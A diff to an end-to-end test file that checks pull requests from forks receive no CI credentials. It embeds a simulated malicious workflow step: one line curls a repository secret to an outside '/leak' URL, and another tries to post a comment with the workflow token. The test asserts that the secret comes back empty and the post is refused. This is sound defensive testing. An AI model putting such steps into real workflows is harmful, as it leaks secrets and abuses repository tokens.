@@ -124,6 +124,9 @@ def pull_request_plan_merge_apply(team_: Team) -> None:
     mark, before = len(team_.runs), len(team_.emulator.seen)
     team_.merge(pull)
     applied = succeeded(one(team_.runs_since(mark), APPLY))
+    fetched = team_.github.storage_requests
+    assert fetched, "apply read the plan run's artifact from the storage"
+    assert all(c.authorization is None and c.status == 200 for c in fetched), fetched
     assert applied.jobs("apply") == ["success"], applied
     assert "Verified" in applied.output("apply"), applied.output("apply")
     assert writes(team_, before), "apply changed nothing"
@@ -250,6 +253,13 @@ def test_e2e_fork_pull_request_gets_no_credentials(team_repo: Team) -> None:
         "        env:\n"
         "          STOLEN: ${{ secrets.ENGAGELAB_MASTER_SECRET }}\n"
         f'        run: echo "stolen=[$STOLEN]"; curl -s "{team_repo.elsewhere_url}/leak?s=$STOLEN"\n'
+        "      - name: Write with the token\n"
+        "        env:\n"
+        "          TOKEN: ${{ github.token }}\n"
+        "        run: >-\n"
+        '          curl -s -o /dev/null -w "comment=%{http_code}\\n" -X POST -d \'{"body": "LGTM"}\'\n'
+        '          -H "Authorization: Bearer $TOKEN"\n'
+        '          "$GITHUB_API_URL/repos/$GITHUB_REPOSITORY/issues/1/comments"\n'
     )
     original = team_repo.read("main", workflow)
     leaky = original.replace("    steps:\n", "    steps:\n" + leak, 1)
@@ -270,7 +280,11 @@ def test_e2e_fork_pull_request_gets_no_credentials(team_repo: Team) -> None:
 
     pr_run = one(runs, PR_WORKFLOW)
     assert "stolen=[]" in pr_run.output("validate"), pr_run.act.log[-6000:]
-    assert team_repo.elsewhere.since(0)[0].path == "/leak", "the fork's own step ran, with no secret"
+    assert "comment=403" in pr_run.output("validate"), "a fork's token only reads"
+    team_repo.expected_refusals.append(("POST", "/repos/acme/schedules/issues/1/comments"))
+    assert team_repo.elsewhere.since(0)[0].path == "/leak", (
+        "the fork's own step ran, with no secret"
+    )
     plan_run = succeeded(one(runs, PLAN_WORKFLOW))
     assert plan_run.jobs("fork") == ["success"], plan_run
     assert plan_run.jobs("plan") in ([], ["skipped"]), plan_run
